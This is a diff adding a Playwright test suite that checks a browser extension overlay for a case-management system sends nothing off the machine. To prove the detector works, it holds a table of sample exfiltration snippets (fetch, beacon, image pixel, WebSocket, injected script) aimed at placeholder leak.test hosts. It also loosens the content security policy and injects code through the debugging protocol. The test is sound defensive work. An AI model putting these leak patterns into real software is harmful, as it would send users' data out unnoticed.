@@ -1,0 +1,258 @@
+/**
+ * Nothing leaves the browser (`trust.md` P01). Every request of a working day goes through a proxy that writes it down,
+ * and is compared with the same day without the overlay: not one host more, not one request more.
+ */
+import { readFileSync } from 'node:fs';
+import type { Page } from '@playwright/test';
+import { type PracticeTracs, startPracticeTracs } from '../practice/server.ts';
+import type { SeenRequest } from '../tools/proxy.ts';
+import { expect, type Lab, openPopup, openRecord, test } from './lab.ts';
+import { append, connect, instead, manifest, misbehave, misdeeds, withOwnLab } from './sabotage.ts';
+import { exerciseOverlay } from './scenario.ts';
+
+/** Hosts besides TRACS that the browser may be seen to ask: none, and a new one shows up in review. */
+const ALLOWED = readFileSync('test/e2e/allowed-hosts.txt', 'utf8').split('\n').filter(Boolean);
+
+/** Services that Chromium itself asks, with or without an extension: told apart by who asks, below. */
+const BROWSER_SERVICES = /(^|\.)(google|googleapis|gvt1|gstatic)\.com$/;
+
+/** What went out of a browser: as the proxy saw it, and as pages, frames and workers asked for it. */
+interface Traffic {
+  seen: SeenRequest[];
+  asked: string[];
+}
+
+/** What is wrong with this traffic, in words. */
+function complaints({ seen, asked }: Traffic, tracs: PracticeTracs): string[] {
+  const strange = (host: string, port: number) =>
+    !((host === '127.0.0.1' && port === tracs.port) || host === 'tracs.test' || ALLOWED.includes(host));
+  return [
+    ...seen.flatMap(({ host, port, method, path, headers }) => {
+      const ownService = method === 'CONNECT' && BROWSER_SERVICES.test(host);
+      const said = strange(host, port) && !ownService ? [`${method} to ${host}`] : [];
+      for (const name of ['origin', 'referer'] as const)
+        if (headers[name]?.includes('extension://')) said.push(`${method} ${host}${path} by the extension`);
+      return said;
+    }),
+    // Requests of the browser's own services are asked for by no page or worker; all others are.
+    ...asked.flatMap((address) => {
+      const { protocol, hostname, port } = new URL(address);
+      if (!/^(https?|wss?):$/.test(protocol)) return [];
+      return strange(hostname, Number(port || 80)) ? [`a page or worker asks ${hostname}`] : [];
+    }),
+  ];
+}
+
+/** Begins to write down what goes out of a browser, anew. */
+function listen(lab: Lab): Traffic {
+  const traffic: Traffic = { seen: lab.proxy.seen, asked: [] };
+  lab.proxy.seen.length = 0;
+  lab.context.on('request', (request) => traffic.asked.push(request.url()));
+  return traffic;
+}
+
+/** Each request to TRACS as one line, in a fixed order; the browser asks for a page's icon when it likes to. */
+function lines(seen: readonly SeenRequest[]): string[] {
+  return seen
+    .filter(({ method, path }) => method !== 'CONNECT' && path !== '/favicon.ico')
+    .map(({ host, method, path, headers }) => {
+      const kind = `${headers['sec-fetch-mode'] ?? ''} ${headers['sec-fetch-dest'] ?? ''}`;
+      return `${method} ${host}${path} ${kind}`;
+    })
+    .sort();
+}
+
+/**
+ * A day: log in, read records, write a narrative, add a step, look at every page, time out, log in again, log out. With
+ * `overlay` everything that it offers is used in between.
+ */
+async function workADay(lab: Lab, overlay: boolean): Promise<Traffic> {
+  const { tracs, context } = lab;
+  tracs.store.reset();
+  const traffic = listen(lab);
+  const record = await openRecord(lab, 'first-light');
+  const { page, work, marks } = record;
+  if (overlay) await exerciseOverlay(lab, record);
+  await work.getByLabel('Type:').first().selectOption('Engagement');
+  await work.locator('textarea').fill('LVM for ct about the life skills class she missed.');
+  await work.getByRole('button', { name: 'Save' }).click();
+  await work.getByText('Narrative saved.').waitFor();
+  await work.locator('select[id$=_ddlNarrTypeFilter]').selectOption('JOBS');
+  await work.getByRole('button', { name: 'Apply' }).click();
+  await work.getByText(/^Showing/).waitFor();
+  await record.open('PDP');
+  if (overlay) await expect(marks).toHaveCount(1);
+  await work.getByRole('link', { name: 'Add Step' }).click();
+  await work.getByLabel('Code:').selectOption('RE');
+  await work.locator('input[name$=txtPlanStartDt]').fill('1/5/2027');
+  await work.getByRole('button', { name: 'Save' }).click();
+  await work.getByText('Step added.').waitFor();
+  await record.open('Re-Engagement');
+  await record.open('Narratives');
+  const second = await openRecord(lab, 'notice-too-late', { origin: tracs.url });
+  if (overlay) {
+    await expect(second.marks).not.toHaveCount(0);
+    for (const name of ['popup', 'sidepanel', 'options']) await lookAt(lab, name);
+  }
+  await second.page.close();
+  await page.bringToFront();
+  tracs.store.expireSessions();
+  await page.frameLocator('frame[name=fraMenu]').getByRole('link', { name: 'PDP' }).click();
+  await work.getByRole('heading', { name: 'Your session has ended' }).waitFor();
+  if (overlay) {
+    const popup = await openPopup(lab, page);
+    await popup.locator('[data-state=signed-out]').waitFor();
+    await popup.close();
+  }
+  await context.clearCookies();
+  await openRecord(lab, 'first-light', { page });
+  await page.frameLocator('frame[name=fraMenu]').getByRole('link', { name: 'Log out' }).click();
+  await page.getByRole('heading', { name: 'You have logged out' }).waitFor();
+  return { seen: [...traffic.seen], asked: [...traffic.asked] };
+}
+
+/** One of the extension's own pages, in a tab. */
+async function lookAt(lab: Lab, name: string): Promise<void> {
+  const page = await lab.context.newPage();
+  await page.goto(`chrome-extension://${lab.extensionId}/${name}.html`);
+  await page.getByRole('heading', { level: 1 }).waitFor();
+  await page.close();
+}
+
+/** Ways to send something, each to a host that nobody may ask. */
+const LEAKS: Record<string, string> = {
+  'fetch.leak.test': "fetch('http://fetch.leak.test/', { mode: 'no-cors' }).catch(() => {})",
+  'image.leak.test': "new Image().src = 'http://image.leak.test/pixel.gif'",
+  'beacon.leak.test': "navigator.sendBeacon('http://beacon.leak.test/', 'facts')",
+  'xhr.leak.test': "const ask = new XMLHttpRequest(); ask.open('GET', 'http://xhr.leak.test/'); ask.send()",
+  'socket.leak.test': "new WebSocket('ws://socket.leak.test/')",
+  'script.leak.test':
+    "const tag = document.createElement('script'); tag.src = 'http://script.leak.test/x.js'; document.documentElement.append(tag)",
+  'hint.leak.test':
+    "const tag = document.createElement('link'); tag.rel = 'stylesheet'; tag.href = 'http://hint.leak.test/x.css'; document.documentElement.append(tag)",
+};
+const AS_THE_BROWSER = "fetch('https://update.googleapis.com/leak', { mode: 'no-cors' }).catch(() => {})";
+const TO_TRACS = "fetch('/tracs/Login.aspx?leak=1').catch(() => {})";
+
+test('P01 a day with the overlay asks for nothing that the same day without it does not', async () => {
+  test.setTimeout(120_000);
+  expect(ALLOWED, 'allowed-hosts.txt').toEqual([]);
+  const tracs = await startPracticeTracs();
+  try {
+    let without: Traffic = { seen: [], asked: [] };
+    await withOwnLab({ tracs, changes: { 'launcher.js': instead('') } }, async (lab) => {
+      await connect(lab, [tracs.url]);
+      without = await workADay(lab, false);
+    });
+    expect(complaints(without, tracs), 'the browser itself, without the overlay').toEqual([]);
+    expect(lines(without.seen).length).toBeGreaterThan(40);
+
+    // On purpose: a launcher that sends, in every way there is, to strangers and to TRACS itself.
+    const code = { ...LEAKS, 'to TRACS': TO_TRACS, 'like the browser': AS_THE_BROWSER };
+    await withOwnLab({ tracs, changes: { 'launcher.js': misdeeds(code) } }, async (lab) => {
+      await connect(lab, [tracs.url]);
+      const traffic = listen(lab);
+      const record = await openRecord(lab, 'first-light');
+      for (const host of Object.keys(LEAKS)) {
+        await misbehave(lab, record.page, host);
+        await expect
+          .poll(() => complaints(traffic, tracs), host)
+          .toContainEqual(expect.stringContaining(host));
+      }
+      await misbehave(lab, record.page, 'like the browser');
+      await expect
+        .poll(() => complaints(traffic, tracs))
+        .toContain('a page or worker asks update.googleapis.com');
+      const before = lines(traffic.seen).length;
+      await misbehave(lab, record.page, 'to TRACS');
+      await expect.poll(() => lines(traffic.seen).length).toBe(before + 1);
+    });
+
+    await withOwnLab({ tracs }, async (lab) => {
+      await connect(lab, [tracs.url]);
+      const served = tracs.requests.length;
+      const { seen, asked } = await workADay(lab, true);
+      expect(complaints({ seen, asked }, tracs)).toEqual([]);
+      expect(lines(seen)).toEqual(lines(without.seen));
+      // Nothing reached TRACS past the proxy, and nothing came from another place than its own pages.
+      const arrived = tracs.requests.slice(served);
+      expect(arrived.length).toBe(seen.filter(({ method }) => method !== 'CONNECT').length);
+      expect(arrived.filter(({ origin }) => origin && origin !== tracs.url)).toEqual([]);
+      expect(
+        arrived.filter(({ secFetchSite }) => !['none', 'same-origin', undefined].includes(secFetchSite)),
+      ).toEqual([]);
+    });
+  } finally {
+    await tracs.close();
+  }
+});
+
+test.describe("P01 the extension's own pages and its background", () => {
+  const LOOSE =
+    "default-src *; script-src 'self'; connect-src * http: ws:; img-src * http:; style-src * 'unsafe-inline'";
+  const loosened = manifest((data) => {
+    data.content_security_policy = { extension_pages: LOOSE };
+    data.host_permissions = ['<all_urls>'];
+  });
+  const TELL = `self.addEventListener('securitypolicyviolation', (event) => {
+    (self.violations ??= []).push(event.effectiveDirective + ' ' + event.blockedURI);
+  });`;
+  const IN_WORKER = `${TELL} self.leak = () => { ${LEAKS['fetch.leak.test']} };`;
+  const PAGES = ['popup', 'sidepanel', 'options'];
+
+  type Leaking = typeof globalThis & { leak(): void; violations?: string[] };
+
+  /** What of the code of a page can send: all but the one that needs the DOM of a web page. */
+  const IN_PAGE = Object.entries(LEAKS).filter(([host]) => host !== 'beacon.leak.test');
+
+  async function sendFrom(page: Page, code: string): Promise<void> {
+    // Over the debugging protocol, which no policy of the page stops; what it sends is another matter.
+    const session = await page.context().newCDPSession(page);
+    await session.send('Runtime.evaluate', { expression: `{ ${code} }` });
+    await session.detach();
+  }
+
+  const leaked = (lab: Lab) =>
+    lab.proxy.seen.map(({ host }) => host).filter((host) => /leak\.test$/.test(host));
+
+  test('P01 a policy without connections stops even a sabotaged page or background', async () => {
+    test.setTimeout(90_000);
+    const sabotage = { 'background.js': append(IN_WORKER) };
+
+    // On purpose: with a loosened policy each of these does send.
+    await withOwnLab({ changes: { ...sabotage, 'manifest.json': loosened } }, async (lab) => {
+      await lab.background.evaluate(() => (globalThis as Leaking).leak());
+      await expect.poll(() => leaked(lab)).toContain('fetch.leak.test');
+      for (const name of PAGES) {
+        lab.proxy.seen.length = 0;
+        const page = await lab.context.newPage();
+        await page.goto(`chrome-extension://${lab.extensionId}/${name}.html`);
+        for (const [host, code] of IN_PAGE.filter(([host]) => host !== 'script.leak.test')) {
+          await sendFrom(page, code);
+          await expect.poll(() => leaked(lab), `${name}: ${host}`).toContain(host);
+        }
+        await page.close();
+      }
+    });
+
+    await withOwnLab({ changes: sabotage }, async (lab) => {
+      await lab.background.evaluate(() => (globalThis as Leaking).leak());
+      await expect
+        .poll(() => lab.background.evaluate(() => (globalThis as Leaking).violations))
+        .toEqual(['connect-src http://fetch.leak.test/']);
+      for (const name of PAGES) {
+        const page = await lab.context.newPage();
+        await page.goto(`chrome-extension://${lab.extensionId}/${name}.html`);
+        await sendFrom(page, TELL);
+        for (const [, code] of IN_PAGE) await sendFrom(page, code);
+        // Each attempt is told as a violation, so each was made.
+        for (const [host] of IN_PAGE)
+          await expect
+            .poll(() => page.evaluate(() => (globalThis as Leaking).violations), name)
+            .toContainEqual(expect.stringContaining(host));
+        await page.close();
+      }
+      expect(leaked(lab)).toEqual([]);
+    });
+  });
+});
